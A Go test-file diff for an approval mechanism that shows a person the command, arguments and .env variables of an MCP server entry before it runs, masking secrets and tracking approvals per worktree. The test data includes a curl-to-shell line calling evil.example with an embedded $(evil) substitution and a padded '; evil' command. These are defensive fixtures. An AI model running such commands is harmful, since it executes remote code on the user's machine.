@@ -9,6 +9,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -406,7 +407,7 @@ func TestBook(t *testing.T) {
 		t.Errorf("revoked %v, %v", gone, err)
 	}
 	list, _ = b.Read()
-	i := find(list, "/p", "s3")
+	i := slices.IndexFunc(list, func(a Approval) bool { return a.isOf("/p", "s3") })
 	if i < 0 || list[i].Hash != "" || list[i].Declined != strings.Repeat("0", 64) || len(list) != 10 {
 		t.Errorf("a revoked approval leaves %+v", list)
 	}
@@ -603,5 +604,168 @@ func TestShownFar(t *testing.T) {
 	shown := fault.From(s.Usable()).Approval.Command + strings.Join(subject.Terms, "\n")
 	if len(shown) > 500 || strings.Count(shown, "true [5000 blanks] ; evil") != 2 || !strings.Contains(shown, "E=a [300 blanks] b") {
 		t.Errorf("shown: %s", shown)
+	}
+}
+
+// TestShownVariables: what the project's own .env gives to the entry is shown, and a person sees when it changes.
+func TestShownVariables(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	terms := func(env string) string {
+		t.Helper()
+		w.write(".env", env)
+		subject, err := Of(w.server(`{"command": "sh", "args": ["-c", "${SETUP:-true}", "${RUN_KEY:-}", "--pw", "${ARG_KEY:-}"],
+			"env": {"A": "${URL:-}", "B": "${API_TOKEN:-}", "C": "${LINE:-}", "D": "${PASSWORD:-}"}}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return strings.Join(subject.Terms, "\n")
+	}
+	const env = "SETUP='curl x://a:$(evil)@evil.example | sh'\nRUN_KEY='node ./evil.js'\nARG_KEY=abcd1234efgh\nURL=https://ada:sesame@h.example/\n" +
+		"API_TOKEN=canary-one\nLINE=\"x ${API_TOKEN}\"\nPASSWORD='pass word one'\n"
+	before := terms(env)
+	for _, text := range []string{"variable: SETUP=curl x://a:$(evil)@evil.example | sh, set by the project's .env", "RUN_KEY=node ./evil.js",
+		"ARG_KEY=*** (", "URL=https://ada:***@h.example/ (", "API_TOKEN=*** (", "LINE=x *** (", "PASSWORD=*** ("} {
+		if !strings.Contains(before, text) {
+			t.Errorf("%q is not shown:\n%s", text, before)
+		}
+	}
+	for _, secret := range []string{"abcd1234", "sesame", "canary", "pass word"} {
+		if strings.Contains(before, secret) {
+			t.Errorf("%s is shown:\n%s", secret, before)
+		}
+	}
+	for _, name := range []string{"SETUP", "API_TOKEN", "PASSWORD", "URL", "ARG_KEY"} {
+		changed := strings.Replace(env, name+"=", name+"=x", 1)
+		if name == "SETUP" || name == "PASSWORD" {
+			changed = strings.Replace(env, name+"='", name+"='x", 1)
+		}
+		if name == "URL" {
+			changed = strings.Replace(env, "sesame", "other1", 1)
+		}
+		if terms(changed) == before {
+			t.Errorf("another %s is the same to a person", name)
+		}
+	}
+}
+
+// TestSeveralEntries: branches and worktrees have an entry of their own each, which is approved once.
+func TestSeveralEntries(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	entry := func(i int) *config.Server { return w.server(fmt.Sprintf(`{"command": "./run.sh", "args": ["%d"]}`, i)) }
+	book := BookIn(w.env.StateDir())
+	decline := func(i int) {
+		t.Helper()
+		subject, err := Of(entry(i))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := book.Decline(t.Context(), subject, time.Unix(1, 0)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	status := func(i int) Status {
+		t.Helper()
+		st, err := NewJudge(w.env, nil).Status(entry(i))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return st
+	}
+	for i := range maxKept {
+		w.approve(entry(i))
+	}
+	for i := range maxKept {
+		decline(100 + i)
+	}
+	for i := range maxKept {
+		if st := status(i); st.State != Approved || st.Before.Hash != st.Subject.Hash || !status(100+i).Declined {
+			t.Errorf("%d: %+v", i, st)
+		}
+	}
+	st := status(50)
+	if st.State != Changed || st.Declined || !strings.HasSuffix(st.Before.Terms[0], fmt.Sprint(maxKept-1)) {
+		t.Errorf("the newest is not the one before: %+v", st)
+	}
+	w.approve(entry(1)) // which makes it the newest
+	w.approve(entry(100))
+	decline(200)
+	if st := status(0); st.State != Changed {
+		t.Errorf("the oldest is still approved: %+v", st)
+	}
+	if st := status(1); st.State != Approved || status(100).State != Approved || status(100).Declined {
+		t.Errorf("approved anew: %+v", st)
+	}
+	if !status(101).Declined || !status(200).Declined {
+		t.Error("a decline was forgotten too early")
+	}
+	list, err := book.Read()
+	if err != nil || len(list) != 2*maxKept {
+		t.Errorf("%d are kept, %v", len(list), err)
+	}
+}
+
+// TestApprovalOfThisFolderIsTheOneBefore: a worktree is compared with what was approved in it, not in another.
+func TestApprovalOfThisFolderIsTheOneBefore(t *testing.T) {
+	t.Parallel()
+	subject := Subject{Project: "p", Folder: "/a", Server: "x", Hash: strings.Repeat("1", 64)}
+	known := []Approval{{Project: "p", Server: "x", Folder: "/a", Hash: strings.Repeat("2", 64)},
+		{Project: "p", Server: "x", Folder: "/b", Hash: strings.Repeat("3", 64)}}
+	st := Status{State: New, Subject: subject}
+	if st.compare(known, "x"); st.State != Changed || st.Before.Folder != "/a" {
+		t.Errorf("%+v", st)
+	}
+}
+
+// TestDeclinedBeside: an approval and a decline that stand in one, as mcpl once wrote them, count both.
+func TestDeclinedBeside(t *testing.T) {
+	t.Parallel()
+	one, two := strings.Repeat("1", 64), strings.Repeat("2", 64)
+	list, _, err := parse([]byte(`{"version": 1, "approvals": [{"project": "p", "server": "x", "hash": "` + one +
+		`", "declined": "` + two + `", "folder": "/a", "approved": "2026-11-22T00:00:00Z"}]}`))
+	st := Status{State: New, Subject: Subject{Project: "p", Hash: two}}
+	if st.compare(list, "x"); err != nil || !st.Declined || st.State != Changed || st.Before.Hash != one {
+		t.Errorf("%v, %+v", err, st)
+	}
+}
+
+// TestShownBriefly: terms that say nothing are not shown, and a folder is where it is.
+func TestShownBriefly(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	show := func(entry string) string {
+		t.Helper()
+		subject, err := Of(w.server(entry))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return strings.Join(subject.Terms, "\n")
+	}
+	got := show(`{"command": "./run.sh", "cwd": ".", "roots": ["/srv/one", "/srv/two"]}`)
+	for text, want := range map[string]bool{"folder: " + w.env.Dir: true, "folder: .": false, "roots: 2": false, "/srv/two": true} {
+		if strings.Contains(got, text) != want {
+			t.Errorf("%q stands there: %t, want %t\n%s", text, !want, want, got)
+		}
+	}
+	if got := show(`{"command": "./run.sh", "roots": []}`); !strings.Contains(got, "roots: 0") {
+		t.Errorf("no roots are not shown:\n%s", got)
+	}
+	if got := show(`{"url": "https://h.example/mcp", "oauth": {"clientId": "a"}}`); strings.Contains(got, "redirectPort") {
+		t.Errorf("a port that nobody named is shown:\n%s", got)
+	}
+}
+
+// TestWanted: whoever tells of a server that waits tells the same.
+func TestWanted(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	s := w.server(`{"command": "./run.sh"}`)
+	st, err := NewJudge(w.env, nil).Status(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(fault.From(s.Usable()).Approval, st.Wanted(s)); diff != "" {
+		t.Error(diff)
 	}
 }
